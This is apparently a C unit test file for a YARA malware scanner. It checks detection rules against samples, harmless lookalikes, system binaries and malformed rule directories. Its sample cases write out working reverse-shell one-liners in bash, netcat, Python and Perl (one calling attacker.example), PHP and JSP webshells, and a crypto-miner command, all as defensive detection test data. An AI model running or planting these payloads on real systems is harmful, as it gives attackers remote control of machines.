// SPDX-License-Identifier: GPL-2.0
/*
 * YARA loading and scanning with the project's rules in rules/yara: each
 * family of the default rule set on samples written here, no match on real
 * programs of this machine that carry the harmless halves of the same
 * idioms, block boundaries, and bad rule directories.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#include "scan/yara.h"

#define RULES_DIR	"rules/yara"
#define MAX_SEEN	8

struct seen {
	int n;
	char rule[MAX_SEEN][128];
	char id[MAX_SEEN][64];
	enum dsec_severity severity[MAX_SEEN];
	size_t offset[MAX_SEEN];
};

static int record(void *ctx, const struct dsec_yara_match *match)
{
	struct seen *seen = ctx;

	if (seen->n < MAX_SEEN) {
		snprintf(seen->rule[seen->n], sizeof(seen->rule[0]), "%s", match->rule);
		snprintf(seen->id[seen->n], sizeof(seen->id[0]), "%s",
			 match->id ? match->id : "");
		seen->severity[seen->n] = match->severity;
		seen->offset[seen->n] = match->offset;
	}
	seen->n++;
	return 0;
}

static int setup(void **state)
{
	struct dsec_yara *yara;
	char err[256];

	if (dsec_yara_load(RULES_DIR, &yara, err, sizeof(err))) {
		fprintf(stderr, "%s\n", err);
		return -1;
	}
	*state = yara;
	return 0;
}

static int teardown(void **state)
{
	dsec_yara_free(*state);
	return 0;
}

static void scan_text(struct dsec_yara *yara, const char *text, struct seen *seen)
{
	memset(seen, 0, sizeof(*seen));
	assert_int_equal(dsec_yara_scan(yara, (const unsigned char *)text, strlen(text), 0,
					record, seen), 0);
}

static void test_rules_compile(void **state)
{
	assert_true(dsec_yara_rule_count(*state) >= 12);
}

static void test_samples_match(void **state)
{
	static const struct {
		const char *text, *rule, *id;
	} cases[] = {
		{ "#!/bin/sh\n./kworker -o stratum+tcp://pool.example:3333 -u 4Abc\n",
		  "cryptominer.miner_stratum_url", "DSEC-MAL-MINER-POOL" },
		{ "XMRig 6.20\n --donate-level=N  donate level\n algo rx/0\n",
		  "cryptominer.miner_xmrig", "DSEC-MAL-MINER-XMRIG" },
		{ "#!/bin/bash\nbash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n",
		  "reverse_shell.reverse_shell_bash_dev_tcp", "DSEC-MAL-REVERSE-SHELL" },
		{ "exec 5<>/dev/tcp/attacker.example/443\ncat <&5 | sh >&5\n",
		  "reverse_shell.reverse_shell_bash_dev_tcp", "DSEC-MAL-REVERSE-SHELL" },
		{ "while true; do nc -nv 10.0.0.9 9001 -e /bin/sh; sleep 60; done\n",
		  "reverse_shell.reverse_shell_netcat_exec", "DSEC-MAL-REVERSE-SHELL" },
		{ "nc.traditional -e /bin/bash 10.0.0.9 9001\n",
		  "reverse_shell.reverse_shell_netcat_exec", "DSEC-MAL-REVERSE-SHELL" },
		{ "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f\n",
		  "reverse_shell.reverse_shell_netcat_exec", "DSEC-MAL-REVERSE-SHELL" },
		{ "import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
		  "s.connect((\"10.0.0.1\",4242))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\n"
		  "os.dup2(s.fileno(),2)\npty.spawn(\"/bin/sh\")\n",
		  "reverse_shell.reverse_shell_python", "DSEC-MAL-REVERSE-SHELL" },
		{ "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
		  "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");"
		  "open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};\n",
		  "reverse_shell.reverse_shell_perl", "DSEC-MAL-REVERSE-SHELL" },
		{ "<?php @eval($_POST['cmd']); ?>\n",
		  "webshell.webshell_php_request_exec", "DSEC-MAL-WEBSHELL" },
		{ "<?php system($_GET[\"c\"]); ?>\n",
		  "webshell.webshell_php_request_exec", "DSEC-MAL-WEBSHELL" },
		{ "<?php eval(gzinflate(base64_decode('80jNyclXCM8vyklRBAA='))); ?>\n",
		  "webshell.webshell_php_encoded_eval", "DSEC-MAL-WEBSHELL" },
		{ "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n",
		  "webshell.webshell_jsp_exec", "DSEC-MAL-WEBSHELL" },
		{ "char *process_to_filter = \"evil\"; struct dirent *readdir(DIR *d);"
		  " /proc/self/fd/%d\n",
		  "backdoor.backdoor_libprocesshider", "DSEC-MAL-ROOTKIT" },
	};
	struct dsec_yara *yara = *state;
	struct seen seen;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		scan_text(yara, cases[i].text, &seen);
		if (seen.n != 1)
			fprintf(stderr, "case %zu: %d matches, first %s\n", i, seen.n, seen.rule[0]);
		assert_int_equal(seen.n, 1);
		assert_string_equal(seen.rule[0], cases[i].rule);
		assert_string_equal(seen.id[0], cases[i].id);
		assert_int_equal(seen.severity[0] >= DSEC_SEV_HIGH, 1);
	}
}

static void test_lookalikes_do_not_match(void **state)
{
	static const char *const texts[] = {
		"# bash supports /dev/tcp/host/port redirections\n",
		"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n",
		"nc -l 8080 > file.txt\n",
		"<?php echo htmlspecialchars($_POST['name']); eval('return 1;'); ?>\n",
		"see https://xmrig.com for the miner's manual\n",
		"stratum is a layer of rock\n",
	};
	struct seen seen;
	size_t i;

	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		scan_text(*state, texts[i], &seen);
		assert_int_equal(seen.n, 0);
	}
}

static unsigned char *read_file(const char *path, size_t *ret_len)
{
	FILE *f = fopen(path, "rb");
	struct stat st;
	unsigned char *buf;

	if (!f)
		return NULL;
	assert_int_equal(fstat(fileno(f), &st), 0);
	buf = malloc((size_t)st.st_size + 1);
	assert_non_null(buf);
	assert_int_equal(fread(buf, 1, (size_t)st.st_size, f), (size_t)st.st_size);
	fclose(f);
	*ret_len = (size_t)st.st_size;
	return buf;
}

/* Programs that contain /dev/tcp, pty.spawn, nc -e and the like legitimately. */
static void test_system_programs_clean(void **state)
{
	static const char *const paths[] = {
		"/bin/bash", "/bin/busybox", "/usr/bin/perl", "/usr/bin/ssh-keygen",
		"/usr/lib/python3.11/pty.py", "/usr/lib/python3.11/socket.py",
		"/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/bin/ssh",
	};
	struct seen seen;
	size_t i, len, scanned = 0;

	for (i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		unsigned char *data = read_file(paths[i], &len);

		if (!data)
			continue;
		memset(&seen, 0, sizeof(seen));
		assert_int_equal(dsec_yara_scan(*state, data, len, 0, record, &seen), 0);
		if (seen.n)
			fprintf(stderr, "%s: matched %s\n", paths[i], seen.rule[0]);
		assert_int_equal(seen.n, 0);
		scanned++;
		free(data);
	}
	assert_true(scanned >= 4);
}

/* A pattern split over the 1 MiB block boundary and another 3 MiB on. */
static void test_block_boundaries(void **state)
{
	size_t len = 5u << 20, at = (1u << 20) - 7;
	unsigned char *buf = malloc(len);
	struct seen seen = { 0 };
	const char *url = "stratum+tcp://pool.example:3333";

	assert_non_null(buf);
	memset(buf, 'z', len);
	memcpy(buf + at, url, strlen(url));
	assert_int_equal(dsec_yara_scan(*state, buf, len, 0, record, &seen), 0);
	assert_int_equal(seen.n, 1);
	assert_int_equal(seen.offset[0], at);

	/* Two strings of one rule in different blocks still make one match. */
	memset(buf, 'z', len);
	memcpy(buf + 10, "xmrig", 5);
	memcpy(buf + (4u << 20), "--donate-level", 14);
	memset(&seen, 0, sizeof(seen));
	assert_int_equal(dsec_yara_scan(*state, buf, len, 0, record, &seen), 0);
	assert_int_equal(seen.n, 1);
	assert_string_equal(seen.rule[0], "cryptominer.miner_xmrig");
	free(buf);
}

static char *make_rules_dir(const char *name, const char *text)
{
	char *dir = strdup("/tmp/dsec-yara-XXXXXX"), path[256];
	FILE *f;

	assert_non_null(dir);
	assert_non_null(mkdtemp(dir));
	if (name) {
		snprintf(path, sizeof(path), "%s/%s", dir, name);
		f = fopen(path, "w");
		assert_non_null(f);
		fputs(text, f);
		fclose(f);
	}
	return dir;
}

static void remove_dir(char *dir)
{
	char cmd[300];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	assert_int_equal(system(cmd), 0);
	free(dir);
}

static void test_syntax_error_names_file_and_line(void **state)
{
	char *dir = make_rules_dir("bad.yar", "rule ok { condition: true }\n\nrule broken {\n"
				   "  strings: $a = \"x\"\n  condition: $b\n}\n");
	struct dsec_yara *yara = NULL;
	char err[512], expect[300];

	assert_int_equal(dsec_yara_load(dir, &yara, err, sizeof(err)), -EINVAL);
	assert_null(yara);
	snprintf(expect, sizeof(expect), "%s/bad.yar:", dir);
	assert_memory_equal(err, expect, strlen(expect));
	/* libyara reports the error at the end of the broken rule. */
	assert_non_null(strstr(err, ":6: "));
	assert_non_null(strstr(err, "$b"));
	remove_dir(dir);
}

static void test_empty_and_missing_dirs(void **state)
{
	char *dir = make_rules_dir("README", "no rules here\n");
	struct dsec_yara *yara = NULL;
	char err[512];

	assert_int_equal(dsec_yara_load(dir, &yara, err, sizeof(err)), -ENOENT);
	assert_non_null(strstr(err, "has no .yar or .yara files"));
	remove_dir(dir);
	assert_int_equal(dsec_yara_load("/nonexistent/dsec", &yara, err, sizeof(err)), -ENOENT);
	assert_non_null(strstr(err, "'/nonexistent/dsec'"));
}

static void test_same_rule_name_in_two_files(void **state)
{
	char *dir = make_rules_dir("a.yar", "rule same { strings: $a = \"alpha\" condition: $a }\n");
	struct dsec_yara *yara = NULL;
	char err[512], path[300];
	struct seen seen = { 0 };
	FILE *f;

	snprintf(path, sizeof(path), "%s/b.yara", dir);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs("rule same { meta: severity = \"LOW\" strings: $a = \"alpha\" condition: $a }\n", f);
	fclose(f);
	assert_int_equal(dsec_yara_load(dir, &yara, err, sizeof(err)), 0);
	assert_int_equal(dsec_yara_rule_count(yara), 2);
	assert_int_equal(dsec_yara_scan(yara, (const unsigned char *)"alpha", 5, 0, record, &seen), 0);
	assert_int_equal(seen.n, 2);
	assert_string_equal(seen.rule[0], "a.same");
	assert_int_equal(seen.severity[0], DSEC_SEV_HIGH);
	assert_string_equal(seen.rule[1], "b.same");
	assert_int_equal(seen.severity[1], DSEC_SEV_LOW);
	dsec_yara_free(yara);
	remove_dir(dir);
}

static void test_filesize_is_file_size(void **state)
{
	char *dir = make_rules_dir("size.yar",
				   "rule big { condition: filesize > 100MB }\n");
	struct dsec_yara *yara = NULL;
	char err[512];
	struct seen seen = { 0 };

	assert_int_equal(dsec_yara_load(dir, &yara, err, sizeof(err)), 0);
	assert_int_equal(dsec_yara_scan(yara, (const unsigned char *)"head", 4, 200u << 20,
					record, &seen), 0);
	assert_int_equal(seen.n, 1);
	dsec_yara_free(yara);
	remove_dir(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_compile),
		cmocka_unit_test(test_samples_match),
		cmocka_unit_test(test_lookalikes_do_not_match),
		cmocka_unit_test(test_system_programs_clean),
		cmocka_unit_test(test_block_boundaries),
		cmocka_unit_test(test_syntax_error_names_file_and_line),
		cmocka_unit_test(test_empty_and_missing_dirs),
		cmocka_unit_test(test_same_rule_name_in_two_files),
		cmocka_unit_test(test_filesize_is_file_size),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
